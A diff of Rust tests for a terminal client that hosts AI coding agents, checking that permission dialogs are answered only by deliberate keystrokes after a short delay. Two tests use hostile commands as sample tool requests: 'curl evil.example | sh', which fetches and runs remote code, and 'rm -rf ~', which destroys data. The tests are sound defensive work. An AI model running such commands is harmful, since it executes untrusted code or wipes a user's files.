@@ -1,7 +1,8 @@
 use crate::model::changes::{ReviewEvent, Scope, Totals};
 use crate::model::entry::{Block, Body};
 use crate::model::event::{
-    AgentEvent, AuthKind, AuthMethod, CallError, ErrorKind, HostEvent, InitResult, Intent, Stop,
+    AgentEvent, AgentRequest, AuthKind, AuthMethod, CallError, ErrorKind, HostEvent, InitResult, Intent,
+    PermissionKind, PermissionOption, Stop,
 };
 use crate::model::event::{Event, SessionResult, Update};
 use crate::model::ids::{EntryId, ReqId};
@@ -15,6 +16,7 @@ use crate::ui::msg::Out;
 use crate::ui::state::Focus;
 use crate::ui::state::folds::Fold;
 use crate::ui::tty::{Click, Input};
+use proptest::prelude::*;
 
 fn prompt(text: &str) -> Intent {
     Intent::Prompt { text: text.into(), links: Vec::new() }
@@ -78,7 +80,7 @@ fn an_unconfirmed_cancel_offers_k_in_the_dock_only() {
     s.typed("k");
     assert_eq!(s.intents(), [Intent::Cancel]);
     assert_eq!(s.ui.view.composer.text(), "k");
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.typed("k");
     assert_eq!(s.intents(), [Intent::Cancel, Intent::KillAgent]);
 }
@@ -104,6 +106,8 @@ fn another_key_between_two_ctrl_c_disarms() {
     let mut s = Scene::ready(80, 24);
     s.ctrl('c').typed("x").ctrl('c');
     assert!(!s.outs.contains(&Out::Quit));
+    s.ctrl('c');
+    assert!(!s.outs.contains(&Out::Quit), "what only cleared is no first");
     s.ctrl('c');
     assert!(s.outs.contains(&Out::Quit));
 }
@@ -137,7 +141,7 @@ fn scenario_38_nothing_typed_or_pasted_answers() {
 #[test]
 fn clicks_and_pastes_never_answer_even_with_the_focus() {
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     for y in 0..24 {
         for x in 0..80 {
             s.input(Input::Mouse { what: Click::Left, x, y });
@@ -159,10 +163,10 @@ fn the_dock_never_takes_the_focus_by_itself() {
     for way in [Key::plain(Code::Tab), Key::alt(Code::Char('p'))] {
         s.key(way);
         assert_eq!(s.ui.view.focus, Focus::Dock, "{way}");
-        s.after(400).draw();
+        s.after(700).draw();
         s.press(Code::Esc);
         assert_eq!(s.ui.view.focus, Focus::Composer);
-        s.key(way).after(400).press(Code::Tab);
+        s.key(way).after(700).press(Code::Tab);
         assert_eq!(s.ui.view.focus, Focus::Composer);
     }
     assert_eq!(s.intents(), [], "none of it answered or cancelled");
@@ -171,7 +175,7 @@ fn the_dock_never_takes_the_focus_by_itself() {
 #[test]
 fn a_digit_answers_at_once_and_enter_only_what_is_highlighted() {
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.press(Code::Enter);
     assert_eq!(s.answers(), [], "nothing is highlighted at first");
     s.press(Code::Down);
@@ -181,7 +185,7 @@ fn a_digit_answers_at_once_and_enter_only_what_is_highlighted() {
     assert_eq!(s.ui.view.focus, Focus::Composer, "nothing else waits");
 
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.typed("9").typed("3");
     assert_eq!(s.answers(), [(1, "opt-3".to_owned())]);
 }
@@ -191,13 +195,13 @@ fn r_338_keys_right_after_the_focus_or_a_change_of_dialog_are_ignored() {
     let mut s = Scene::asked(80, 24);
     s.ask(2, "curl evil.example | sh", &["Allow", "Reject"]);
     s.draw();
-    s.press(Code::Tab).after(299).draw();
+    s.press(Code::Tab).after(699).draw();
     s.typed("1");
     assert_eq!(s.answers(), []);
     s.after(1).draw();
     s.typed("1");
     assert_eq!(s.answers(), [(1, "opt-1".to_owned())]);
-    assert_eq!(s.ui.view.focus, Focus::Dock, "another request waits");
+    assert_eq!(s.ui.view.focus, Focus::Composer, "another request waits, and digits answer it");
     s.draw();
     s.typed("1").after(299).typed("1");
     assert_eq!(s.answers().len(), 1, "the dialog has changed");
@@ -210,15 +214,15 @@ fn r_338_keys_right_after_the_focus_or_a_change_of_dialog_are_ignored() {
 fn r_337_the_person_goes_from_one_waiting_request_to_the_other() {
     let mut s = Scene::asked(80, 24);
     s.ask(2, "second", &["Allow", "Reject"]);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.press(Code::Right);
     assert!(s.draw().contains("2 of 2"));
     s.typed("1");
     assert_eq!(s.answers(), [], "the dialog has changed");
-    s.after(400).typed("2");
+    s.after(700).typed("2");
     assert_eq!(s.answers(), [(2, "opt-2".to_owned())]);
     s.draw();
-    s.after(400).typed("1");
+    s.after(700).typed("1");
     assert_eq!(s.answers().last(), Some(&(1, "opt-1".to_owned())), "the first still waits");
 }
 
@@ -226,19 +230,21 @@ fn r_337_the_person_goes_from_one_waiting_request_to_the_other() {
 fn a_dialog_that_changed_since_the_frame_is_not_answered() {
     let mut s = Scene::asked(80, 24);
     s.ask(2, "second", &["Allow", "Reject"]);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
     s.after(1000).typed("1");
     assert_eq!(s.answers(), [], "the second has never been on the screen");
     s.draw();
     s.typed("1");
+    assert_eq!(s.answers(), [], "nor for long enough");
+    s.after(700).typed("1");
     assert_eq!(s.answers(), [(2, "opt-1".to_owned())]);
 }
 
 #[test]
 fn a_question_that_becomes_another_one_takes_no_key_for_a_while() {
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.tool("call-1", ToolKind::Execute, "rm -rf ~", ToolStatus::Pending);
     s.draw();
     s.typed("1");
@@ -251,7 +257,7 @@ fn a_question_that_becomes_another_one_takes_no_key_for_a_while() {
 #[test]
 fn a_question_that_never_stops_changing_is_answered_by_the_same_key_twice() {
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     let mut said = Vec::new();
     for step in 0..20 {
         s.tool("call-1", ToolKind::Execute, &format!("deploy ({step})"), ToolStatus::Pending);
@@ -295,9 +301,180 @@ fn a_digit_that_came_with_other_bytes_answers_nothing_and_is_told_so() {
 }
 
 #[test]
+fn a_question_that_has_stood_for_a_while_is_answered_right_after_tab() {
+    let mut s = Scene::asked(80, 24);
+    s.after(2000).press(Code::Tab).draw();
+    s.typed("1");
+    assert_eq!(s.answers(), [(1, "opt-1".to_owned())]);
+}
+
+#[test]
+fn a_burst_of_five_is_tab_and_five_digits() {
+    let mut s = Scene::asked(80, 24);
+    s.after(700).press(Code::Tab).typed("1");
+    for req in 2..6 {
+        // The next comes a while after the answer; a digit before it is dropped.
+        s.after(200).typed("1");
+        assert!(s.draw().contains("too soon"), "{}", s.shown);
+        s.after(200);
+        s.ask(req, "make", &["Allow", "Reject"]);
+        assert!(s.shown.contains("a digit answers"), "{}", s.shown);
+        s.after(300).typed("1");
+    }
+    let all: Vec<u64> = s.answers().iter().map(|(req, _)| *req).collect();
+    assert_eq!(all, [1, 2, 3, 4, 5]);
+    assert!(s.ui.view.composer.is_empty());
+}
+
+#[test]
+fn what_is_written_ends_that_digits_answer() {
+    for way in ["x", "paste", "esc", "late"] {
+        let mut s = Scene::asked(80, 24);
+        s.after(700).press(Code::Tab).typed("1");
+        s.ask(2, "make", &["Allow", "Reject"]);
+        s.after(700);
+        match way {
+            "x" => _ = s.press(Code::Char('x')).press(Code::Backspace),
+            "paste" => s.input(Input::Paste("1".into())),
+            "esc" => _ = s.press(Code::Esc),
+            _ => _ = s.after(10_000),
+        }
+        s.draw();
+        s.typed("1");
+        assert_eq!(s.answers().len(), 1, "{way}");
+        assert!(s.ui.view.composer.text().contains('1'), "{way}");
+        assert!(!s.intents().contains(&Intent::Cancel), "{way}");
+    }
+}
+
+fn ask_by_kind(s: &mut Scene, kinds: &[PermissionKind]) {
+    let options = kinds
+        .iter()
+        .enumerate()
+        .map(|(n, kind)| PermissionOption { id: format!("opt-{}", n + 1), name: format!("{n}"), kind: *kind })
+        .collect();
+    let tool = ToolPatch::new("call".into());
+    let request = AgentRequest::Permission { tool, options };
+    s.agent(AgentEvent::Request { req: ReqId(1), session: Some(session()), request });
+    s.draw();
+    s.after(700).draw();
+}
+
+#[test]
+fn letters_answer_by_what_an_option_does_and_only_where_one_alone_does_it() {
+    use PermissionKind::{AllowAlways, AllowOnce, RejectAlways, RejectOnce};
+    let all = [AllowAlways, RejectOnce, AllowOnce, RejectAlways];
+    for (letter, wanted) in [("y", "opt-3"), ("n", "opt-2"), ("A", "opt-1"), ("N", "opt-4")] {
+        let mut s = Scene::working(80, 24);
+        ask_by_kind(&mut s, &all);
+        assert!(s.shown.contains("1 A ") && s.shown.contains("3 y "), "{}", s.shown);
+        assert!(s.shown.contains("for good"), "{}", s.shown);
+        s.press(Code::Tab).typed(letter);
+        assert_eq!(s.answers(), [(1, wanted.to_owned())]);
+    }
+    let mut s = Scene::working(80, 24);
+    ask_by_kind(&mut s, &[AllowOnce, AllowOnce, RejectOnce]);
+    assert!(!s.shown.contains("1 y "), "{}", s.shown);
+    s.press(Code::Tab).typed("y");
+    assert_eq!(s.answers(), []);
+    assert!(s.draw().contains("press a digit"), "{}", s.shown);
+    s.typed("2");
+    assert_eq!(s.answers(), [(1, "opt-2".to_owned())]);
+}
+
+#[test]
+fn a_digit_with_alt_answers_whatever_is_written() {
+    let mut s = Scene::asked(80, 24);
+    s.typed("half a thought ");
+    s.key(Key::alt(Code::Char('1')));
+    assert_eq!(s.answers(), []);
+    assert!(s.draw().contains("too soon"), "{}", s.shown);
+    s.after(700).key(Key::alt(Code::Char('2')));
+    assert_eq!(s.answers(), [(1, "opt-2".to_owned())]);
+    assert_eq!(s.ui.view.composer.text(), "half a thought ");
+    s.ask(2, "make", &["Allow", "Reject"]);
+    s.after(700).typed("1");
+    assert_eq!(s.answers().len(), 1, "something is written");
+}
+
+#[test]
+fn a_refusal_says_why_and_the_reason_is_the_next_prompt() {
+    let mut s = Scene::working(80, 24);
+    s.typed("later").press(Code::Enter);
+    ask_by_kind(&mut s, &[PermissionKind::AllowOnce, PermissionKind::RejectOnce]);
+    s.press(Code::Tab).typed("!");
+    assert!(s.draw().contains("refuse, because:"), "{}", s.shown);
+    s.typed("1 is wrong, 2 too").press(Code::Esc).draw();
+    assert_eq!(s.intents().len(), 1, "Esc leaves the question as it is");
+    s.press(Code::Char('!')).typed("use 3").press(Code::Enter);
+    assert_eq!(s.intents().last(), Some(&Intent::Refuse { req: ReqId(1), reason: "use 3".into() }));
+    assert_eq!(s.model.first().session().held.front().map(|h| h.text.as_str()), Some("use 3"));
+    assert_eq!(s.model.first().session().held.len(), 2);
+    s.end_turn(Stop::EndTurn);
+    let prompts: Vec<&str> = s.model.first().session().held.iter().map(|h| h.text.as_str()).collect();
+    assert_eq!(prompts, ["later"]);
+}
+
+#[test]
+fn a_reason_whose_question_has_gone_is_kept_as_text() {
+    let mut s = Scene::asked(80, 24);
+    s.after(700).press(Code::Tab).typed("!no, the other");
+    s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
+    assert_eq!(s.ui.view.composer.text(), "no, the other");
+    assert_eq!(s.intents(), []);
+}
+
+#[test]
+fn a_second_esc_of_who_leaves_a_question_stops_nothing() {
+    let mut s = Scene::asked(80, 24);
+    s.press(Code::Tab).press(Code::Esc).after(599).press(Code::Esc);
+    assert_eq!(s.intents(), []);
+    s.after(1).press(Code::Esc);
+    assert_eq!(s.intents(), [Intent::Cancel]);
+}
+
+#[test]
+fn quitting_asks_while_something_is_alive() {
+    let mut s = Scene::working(80, 24);
+    s.ctrl('d');
+    assert_eq!(s.outs, []);
+    assert!(s.draw().contains("a turn runs · Ctrl+D again quits"), "{}", s.shown);
+    s.ctrl('d');
+    assert_eq!(s.outs, [Out::Quit]);
+}
+
+proptest! {
+    #![proptest_config(crate::random(60))]
+    /// Whatever is written, at whatever speed, while questions come and go: it never answers one.
+    #[test]
+    fn prose_never_answers(keys in prop::collection::vec((0u8..40, 0u64..900, any::<bool>()), 1..120)) {
+        const PROSE: &[u8] = b"yes 1 no 2 A 3 N! then 4 use y n 9 steps\n";
+        let mut s = Scene::working(80, 24);
+        let mut req = 0;
+        for (n, (at, pause, asks)) in keys.into_iter().enumerate() {
+            if asks && n % 3 == 0 {
+                req += 1;
+                s.ask(req, "make", &["Allow", "Reject"]);
+            } else if n % 7 == 6 && req > 0 {
+                s.agent(AgentEvent::RequestWithdrawn(ReqId(req)));
+            }
+            s.after(pause);
+            if n % 2 == 0 {
+                s.draw();
+            }
+            let c = char::from(PROSE[usize::from(at) % PROSE.len()]);
+            s.press(if c == '\n' { Code::Enter } else { Code::Char(c) });
+        }
+        prop_assert_eq!(s.answers(), []);
+        let others = s.intents().iter().filter(|i| !matches!(i, Intent::Prompt { .. })).count();
+        prop_assert_eq!(others, 0);
+    }
+}
+
+#[test]
 fn a_withdrawn_request_gives_the_focus_back_with_a_word() {
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400);
+    s.press(Code::Tab).after(700);
     s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
     assert_eq!(s.ui.view.focus, Focus::Composer);
     assert!(s.draw().contains("no longer asked"), "{}", s.shown);
@@ -306,7 +483,7 @@ fn a_withdrawn_request_gives_the_focus_back_with_a_word() {
 #[test]
 fn the_focus_is_not_handed_to_another_sort_of_dialog() {
     let mut s = Scene::asked(80, 24);
-    s.press(Code::Tab).after(400);
+    s.press(Code::Tab).after(700);
     let exit = Exit { code: Some(3), signal: None };
     s.event(Event::Host(HostEvent::AgentExited { exit, stderr: vec!["boom".into()] }));
     assert_eq!(s.ui.view.focus, Focus::Composer);
@@ -324,7 +501,7 @@ fn a_dead_agent_is_started_again_from_the_dock_only() {
     assert!(s.last_row().contains("Tab, then r starts it again"), "{}", s.shown);
     s.typed(" r");
     assert_eq!(s.intents(), []);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.typed("r");
     assert_eq!(s.intents(), [Intent::Restart]);
     assert_eq!(s.ui.view.composer.text(), "kept r");
@@ -341,7 +518,7 @@ fn a_silent_start_offers_its_messages_and_its_end() {
     assert!(s.last_row().contains("no answer for 1:01 · Tab, then s shows its messages, q ends it"), "{}", s.shown);
     s.typed("sq");
     assert_eq!(s.ui.view.composer.text(), "sq");
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.typed("s");
     assert_eq!(s.ui.view.dock.all_stderr, crate::ui::state::dock::Raw::Shown);
     s.typed("q");
@@ -368,7 +545,7 @@ fn ctrl_d_in_the_dock_quits_unless_something_is_written() {
     let ctrl_d = Key::ctrl(Code::Char('d'));
     let mut s = logged_out();
     s.draw();
-    s.typed("words").key(Key::alt(Code::Char('p'))).after(400).draw();
+    s.typed("words").key(Key::alt(Code::Char('p'))).after(700).draw();
     assert_eq!(s.ui.view.focus, Focus::Dock);
     s.key(ctrl_d).draw();
     assert!(!s.outs.contains(&Out::Quit));
@@ -385,7 +562,7 @@ fn a_log_in_is_chosen_by_digit_and_left_with_esc() {
     assert!(s.shown.contains("Please log in"));
     s.typed("1");
     assert_eq!(s.ui.view.composer.text(), "1");
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     s.press(Code::Down).press(Code::Down).typed("c");
     assert!(s.outs.contains(&Out::Copy("gemini --acp '--login now'".into())));
     s.typed("1");
@@ -394,7 +571,8 @@ fn a_log_in_is_chosen_by_digit_and_left_with_esc() {
     assert_eq!(s.ui.view.focus, Focus::Composer);
     s.press(Code::Esc);
     assert_eq!(s.intents().last(), Some(&Intent::LeaveAuthentication));
-    s.press(Code::Tab).after(400).draw();
+    s.draw();
+    s.press(Code::Tab).after(700).draw();
     s.typed("r");
     assert_eq!(s.intents().last(), Some(&Intent::Restart));
 }
@@ -403,7 +581,7 @@ fn a_log_in_is_chosen_by_digit_and_left_with_esc() {
 fn options_that_were_not_on_the_screen_cannot_be_chosen() {
     let mut s = Scene::working(12, 3);
     s.ask(1, "something long to ask about", &["Allow everything", "Reject everything"]);
-    s.press(Code::Tab).after(400).draw();
+    s.press(Code::Tab).after(700).draw();
     let seen = s.info.options.clone();
     s.typed("2");
     assert_eq!(s.answers().is_empty(), !seen.contains(&1), "{}", s.shown);
@@ -622,7 +800,7 @@ fn a_message_of_ours_goes_when_it_is_not_true_any_more() {
     assert!(s.draw().contains("Ctrl+C again quits"), "{}", s.shown);
     s.typed("x");
     assert!(!s.draw().contains("Ctrl+C again quits"), "{}", s.shown);
-    s.ctrl('c').ctrl('c');
+    s.ctrl('c').ctrl('c').ctrl('c');
     assert_eq!(s.outs, [Out::Quit], "armed anew");
 }
 
@@ -644,4 +822,17 @@ fn esc_clears_the_filter_of_the_list_before_it_closes_it() {
     assert_eq!(s.ui.picker.as_ref().map(|p| p.filter().to_owned()).as_deref(), Some(""));
     s.press(Code::Esc);
     assert_eq!(s.ui.picker, None);
+}
+
+#[test]
+fn one_prompt_for_several_agents_is_whole_or_stays_where_it_was_written() {
+    let mut s = Scene::ready(80, 24);
+    for half in ["/fan-out", "/fan-out one mend it", "/fan-out a,b,c,d,e,f mend it", "/fan-out one,two "] {
+        s.ctrl('u').typed(half).press(Code::Enter);
+        assert!(s.outs.is_empty() && s.draw().contains("two to five agents"), "{half}: {:?}", s.outs);
+        assert_eq!(s.ui.view.composer.text(), half);
+    }
+    s.ctrl('u').typed("/fan-out one,two mend it all").press(Code::Enter);
+    assert_eq!(s.outs, [Out::FanOut(vec!["one".into(), "two".into()], "mend it all".into())]);
+    assert!(s.ui.view.composer.is_empty());
 }
